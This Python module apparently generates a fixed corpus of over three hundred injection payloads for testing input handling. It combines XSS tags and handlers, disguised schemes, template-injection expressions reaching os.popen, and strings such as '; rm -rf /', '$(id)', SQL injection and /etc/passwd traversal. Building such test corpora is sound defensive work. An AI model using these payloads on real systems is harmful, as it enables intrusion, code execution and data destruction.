"""More than three hundred payloads, made by combining: the same ones every time.

Of the kinds that public lists have (elements that run, ways out of an attribute, schemes in
disguise, calls of templates, marks of Markdown, letters that deceive, words that programs take for
others), none taken from a list: each is put together here from its parts.
"""

from collections.abc import Iterator
from itertools import product

RUN = "window.RAN=1"
HOST = "evil.example"

_EVENTS = ("onload", "onerror", "onclick", "onfocus autofocus", "onmouseover", "onpointerrawupdate")
_ELEMENTS = ("img src=x", "svg", "body", "input", "a href=x", "video src=x", "details open", "b")
_WHOLE = (
    *("script", "iframe srcdoc", "object data", "embed src", "style", "link rel", "base href"),
    *("meta http-equiv", "form action", "button formaction", "math href", "template", "noscript"),
    *("textarea", "title", "xmp", "plaintext", "marquee", "isindex", "dialog open", "portal src"),
)
_WAYS_OUT = ('"', "'", '">', "'>", "`", "-->", "]]>", "</title>", "</script>", "</textarea>", '\\"')
_SCHEMES = (
    *("javascript:", "JaVaScRiPt:", "javascript\t:", " javascript:", "java\tscript:", "vbscript:"),
    *(
        "data:text/html,",
        "data:image/svg+xml,",
        "blob:",
        "file:///",
        "feed:javascript:",
        "view-source:",
    ),
    *("javascript&colon;", "&#106;avascript:", "\\u006aavascript:", "%6aavascript:", "//", "\\\\"),
    *("https:evil@", "https://good.example@", "http:\\\\", "ftp://", "tel:", "intent:", "ws://"),
)
_CALLS = (
    "{{%s}}",
    "{%% %s %%}",
    "{# %s #}",
    "${%s}",
    "#{%s}",
    "<%%= %s %%>",
    "[[${%s}]]",
    "{{{%s}}}",
)
_EXPRESSIONS = (
    *("7*7", "config", "self.__init__", "''.__class__.__mro__", "request.application"),
    *("lipsum.__globals__", "cycler.__init__.__globals__.os.popen('id').read()"),
)
_MARKDOWN = (
    *(
        "[x](%s)",
        "![x](%s)",
        "<%s>",
        "[x]: %s",
        "[x][%s]",
        "[^1]: %s",
        "{: %s }",
        "[@%s]",
        "[[%s]]",
    ),
    *('--8<-- "%s"', '!!! note "%s"', "```%s", "    %s", "# %s", "> %s", "- %s", "*%s*", "`%s`"),
    *("[x]{lang=%s}", "[TOC] %s", "*[HTML]: %s", "~~%s~~", "==%s==", "$$%s$$", "\\(%s\\)", "|%s|"),
)
_LETTERS = (
    *("\u202e%s", "\u2066%s\u2069", "%s\u200b", "\ufeff%s", "%s\u00ad", "\u200f%s", "%s\U000e0041"),
    *("%s\x08", "%s\x1b[2J", "%s\x00", "%s\u2028", "\uff1cscript\uff1e%s", "\u02c2script\u02c3%s"),
    *(
        "p\u0430y%s",
        "\u0410lice%s",
        "x\u0301\u0302\u0303%s",
        "\ufdfa%s",
        "\u115f%s",
        "%s\ufe0f\ufe0f",
    ),
)
_WORDS = (
    *(
        "null",
        "undefined",
        "NaN",
        "true",
        "no",
        "~",
        "__proto__",
        "constructor",
        "toString",
        "None",
    ),
    *(
        "0",
        "-1",
        "1e309",
        "0x1f",
        "12:30:45",
        "2026-11-24",
        ".inf",
        "<<",
        "=",
        "!!python/none",
        "&a *a",
    ),
    *(
        "CON",
        "../../etc/passwd",
        "..\\..\\boot.ini",
        "/proc/self/environ",
        "%00",
        "%0d%0aX: y",
        "::error::x",
    ),
    *(
        "' OR 1=1 --",
        "; rm -rf /",
        "$(id)",
        "`id`",
        "| id",
        "&& id",
        "=cmd|'/c calc'!A1",
        "@SUM(1)",
    ),
    *(
        "%s%n%x",
        "\\input{/etc/passwd}",
        "\\href{x}{y}",
        "\\char`x",
        "^^5c",
        "wzxhzdk:0",
        "klzzwxh:0000",
    ),
    *(
        "__config",
        "page",
        "search",
        "top",
        "note-a",
        "\ufdd00\ufdd1",
        "\x02wzxhzdk:1\x03",
        "a" * 300,
    ),
)


def _all() -> Iterator[str]:
    for element, event in product(_ELEMENTS, _EVENTS):
        yield f"<{element} {event}={RUN}>"
    for element in _WHOLE:
        name = element.split()[0]
        attribute = f"={'https://' + HOST}" if " " in element else ""
        yield f"<{element}{attribute}>{RUN}</{name}>"
    for way in _WAYS_OUT:
        yield f"{way}<script>{RUN}</script>"
        yield f"{way} onclick={RUN} x={way}"
        yield f"{way} style=position:fixed {way}"
    for scheme in _SCHEMES:
        yield f"{scheme}{RUN}"
        yield f"[x]({scheme}{RUN})"
        yield f"https://{HOST}/?to={scheme}{RUN}"
    for call, expression in product(_CALLS, _EXPRESSIONS):
        yield call % expression
    for mark, inside in product(_MARKDOWN, (f"javascript:{RUN}", f'" onclick={RUN} x="')):
        yield mark % inside
    for letters in _LETTERS:
        yield letters.replace("%s", "words")
    yield from _WORDS


PAYLOADS = tuple(dict.fromkeys(_all()))
